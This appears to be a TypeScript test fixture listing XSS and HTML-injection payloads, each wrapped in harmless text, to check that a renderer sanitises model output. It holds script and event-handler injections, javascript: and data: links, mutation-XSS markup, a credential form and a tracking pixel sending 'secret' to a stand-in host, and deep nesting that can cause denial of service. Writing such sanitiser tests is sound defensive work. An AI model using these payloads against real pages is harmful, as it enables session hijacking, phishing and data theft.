/** A line of harmless text before and after, which has to stay readable. */
const between = (attack: string) => `before ${attack}\n\nafter`;
const SET = 'window.__attacked = true';
const ELSEWHERE = 'https://elsewhere.example';

/** What a model might say to take over the page, each with what must still be read. `code`: shown as it is. */
export const ATTACKS: Record<string, string> = {
  script: between(`<script>${SET}</script>`),
  'script from elsewhere': between(`<script src="${ELSEWHERE}/x.js"></script>`),
  'script as a block': `before\n\n<script>\n${SET}\n</script>\n\nafter`,
  'img onerror': between(`<img src=x onerror="${SET}">`),
  'svg onload': between(`<svg onload="${SET}"><script>${SET}</script></svg>`),
  'svg animation': between(`<svg><a><animate attributeName=href values="javascript:${SET}"/><text>x</text></a></svg>`),
  'other handlers': between(
    `<details open ontoggle="${SET}"><video src=x onerror="${SET}"></video><body onload="${SET}"><input autofocus onfocus="${SET}">`,
  ),
  'javascript links': between(
    `[a](javascript:${encodeURI(SET)}) [b](JaVaScRiPt:alert(1)) [c](java&#115;cript:alert(1)) [d]( javascript:alert(1)) [e](java\\nscript:alert(1)) <javascript:alert(1)>`,
  ),
  'data links': between(
    `[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [b](vbscript:x) [c](file:///etc/passwd) [d](blob:x)`,
  ),
  'links by reference': between(`[a][1] [b]: x\n\n[1]: javascript:${encodeURI(SET)} "title"`),
  'links that break out': between(
    `[a](https://ok.example/"onmouseover="${SET}) [b](https://ok.example 'x" onclick="${SET}') [c](<https://ok.example/><img src=x onerror=${SET}>)`,
  ),
  'good links': between(
    `[site](https://ok.example/a?b=1&c=2 "Title") <https://ok.example> www.ok.example somebody@ok.example [mail](mailto:a@ok.example)`,
  ),
  'links to this site': between(`[out](/auth/logout) [there](//elsewhere.example) [up](../..) [hash](#x) [empty]()`),
  'remote pictures': between(
    `![a picture](${ELSEWHERE}/pixel.gif?q=secret) ![](${ELSEWHERE}/b.png) <img src="${ELSEWHERE}/c.png">`,
  ),
  'pictures that break out': between(
    `![x" onerror="${SET}](${ELSEWHERE}/a.png) ![a](javascript:alert(1)) ![b](data:image/svg+xml;base64,PHN2Zy8+) [![linked](${ELSEWHERE}/l.png)](javascript:alert(1))`,
  ),
  iframe: between(
    `<iframe src="${ELSEWHERE}"></iframe><iframe srcdoc="<script>${SET}</script>"></iframe><object data="${ELSEWHERE}"></object><embed src="${ELSEWHERE}">`,
  ),
  form: between(`<form action="${ELSEWHERE}" method="post"><input name="password"><button>Sign in</button></form>`),
  styles: between(
    `<p style="position:fixed;inset:0;background:url(${ELSEWHERE}/bg.png)">x</p><style>body{display:none}@import url(${ELSEWHERE}/a.css);</style><link rel=stylesheet href=${ELSEWHERE}/a.css>`,
  ),
  'meta and base': between(`<meta http-equiv="refresh" content="0;url=${ELSEWHERE}"><base href="${ELSEWHERE}/">`),
  'a link to the whole window': between(
    `<a href="${ELSEWHERE}" target=_top rel=opener>x</a> <a href="javascript:${SET}">y</a>`,
  ),
  'markup that mutates': between(
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SET}&gt;"> <noscript><p title="</noscript><img src=x onerror=${SET}>"> <svg></p><style><a id="</style><img src=1 onerror=${SET}>">`,
  ),
  'names that hide others': between(
    `<img name=cookie><form id=document><a id=location name=top></a><input name=attributes>`,
  ),
  'html in code': `before\n\n\`\`\`html\n<img src=x onerror="${SET}">\n<script>${SET}</script>\n\`\`\`\n\nand \`<svg onload=${SET}>\` after`,
  'a language that breaks out': `before\n\n\`\`\`"><img/src=x/onerror=${SET.replaceAll(' ', '')}>\ncode\n\`\`\`\n\nafter`,
  'a comment and a section that never end': `before after <!-- <img src=x onerror=${SET}> <![CDATA[ <?php <!DOCTYPE x`,
  'a fence that never ends': `before after\n\n\`\`\`html\n<img src=x onerror="${SET}"><script>${SET}</script>`,
  'endless nesting': `before after\n\n${'>'.repeat(9000)} deep\n\n${'1. '.repeat(3000)}deep\n\n${'<div><b>'.repeat(800)}`,
  'a table and a list with markup': `before\n\n| a <img src=x onerror=${SET}> | b |\n|:-|-:|\n| [x](javascript:alert(1)) | <script>${SET}</script> |\n\n- [x] <svg onload=${SET}>\n- [ ] after`,
};
